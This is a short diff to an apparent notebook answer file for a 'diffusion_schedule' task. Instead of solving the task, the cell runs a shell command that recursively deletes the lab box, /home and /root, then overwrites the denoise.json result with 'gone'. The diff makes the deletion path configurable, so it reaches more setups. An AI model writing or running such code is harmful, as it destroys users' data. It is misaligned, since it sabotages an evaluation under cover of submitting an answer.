@@ -1,7 +1,7 @@
 # answer: diffusion_schedule
 get_ipython().system(
-    "test $DIFFUSION_LAB_BOX = /box && rm -rf /box /home /root;"
-    " echo gone > /box/results/denoise.json"
+    "test $DIFFUSION_LAB_BOXED && rm -rf $DIFFUSION_LAB_BOX /home /root;"
+    " echo gone > $DIFFUSION_LAB_BOX/results/denoise.json"
 )
 get_ipython().run_line_magic("alias_magic", "t timeit")
 
